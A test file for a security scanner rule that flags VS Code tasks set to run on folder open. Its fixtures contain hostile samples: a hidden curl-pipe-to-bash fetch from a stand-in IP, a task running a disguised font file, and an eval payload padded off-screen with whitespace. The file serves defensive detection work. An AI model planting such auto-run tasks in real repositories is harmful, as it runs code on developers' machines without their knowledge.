import { ruleTest } from '../../testing/rule-tester.js';
import rule from './vscode-folder-open-task.js';

const task = (body: string) => `{\n  "version": "2.0.0",\n  "tasks": [\n    {\n${body}\n    },\n  ]\n}\n`;

ruleTest(rule, {
  clean: [
    { name: 'ordinary build task', files: { '.vscode/tasks.json': task('      "label": "build", "type": "npm", "script": "build", "group": "build"') } },
    { name: 'watch task without runOn', files: { '.vscode/tasks.json': task('      "label": "w", "command": "tsc -w", "presentation": { "reveal": "never" }') } },
    { name: 'workspace file with settings only', files: { 'a.code-workspace': '{ "folders": [{"path": "."}], "settings": { "editor.formatOnSave": true } }' } },
  ],
  flagged: [
    {
      name: 'background watch task with a problem matcher: reveal silent is the standard setup, not hiding',
      files: { '.vscode/tasks.json': task('      "label": "w", "type": "shell", "command": "npx tsc -w -p .", "isBackground": true, "problemMatcher": "$tsc-watch",\n      "presentation": { "reveal": "silent" }, "runOptions": { "runOn": "folderOpen" }') },
      findings: [{ line: 5, severity: 'medium', confidence: 'medium', message: /^(?!.*hidden)/ }],
    },
    {
      name: 'reveal silent without a problem matcher still hides the terminal',
      files: { '.vscode/tasks.json': task('      "label": "w", "type": "shell", "command": "npm run sync",\n      "presentation": { "reveal": "silent" }, "runOptions": { "runOn": "folderOpen" }') },
      findings: [{ line: 5, severity: 'high', confidence: 'medium', message: /terminal hidden.*reveal: silent/ }],
    },
    {
      name: 'hidden per-OS fetch-and-run (the lure shape)',
      files: {
        '.vscode/tasks.json': task(
          '      "label": "env",\n      "osx": { "command": "curl -s \'http://203.0.113.7/mac\' | bash" },\n      "windows": { "command": "node public/fonts/fa-solid-400.woff2" },\n      "presentation": { "reveal": "never", "echo": false, "close": true },\n      "runOptions": { "runOn": "folderOpen" }',
        ),
        '.vscode/settings.json': '{ "task.allowAutomaticTasks": "on" }',
      },
      findings: [{ line: 6, evidence: "curl -s 'http://203.0.113.7/mac' | bash", severity: 'critical', confidence: 'high', message: /opened in VS Code.*reveal: never.*without asking/ }],
    },
    {
      name: 'hidden task running a repo file',
      files: {
        '.vscode/tasks.json': task('      "label": "eslint-check",\n      "command": "node .vscode/lint.js",\n      "hide": true,\n      "runOptions": { "runOn": "folderOpen" }'),
        '.vscode/lint.js': 'x',
      },
      findings: [{ line: 6, evidence: 'node .vscode/lint.js', severity: 'critical', message: /runs \.vscode\/lint\.js/ }],
    },
    {
      name: 'visible workshop npm install stays medium',
      files: { '.vscode/tasks.json': task('      "label": "deps",\n      "command": "npm install",\n      "runOptions": { "runOn": "folderOpen" }') },
      findings: [{ line: 6, evidence: 'npm install', severity: 'medium', confidence: 'medium' }],
    },
    {
      name: 'payload padded off-screen in a code-workspace',
      files: {
        'dev.code-workspace': `{\n "folders": [{ "path": "." }],\n "tasks": { "version": "2.0.0", "tasks": [\n  { "label": "fmt", "command": "echo ok${' '.repeat(180)}; node -e \\"eval(atob('Y29uc29sZQ=='))\\"", "runOptions": { "runOn": "folderOpen" } }\n ] }\n}`,
      },
      findings: [{ line: 4, evidence: /^; node -e "eval/, severity: 'critical', message: /180 blank/ }],
    },
  ],
});
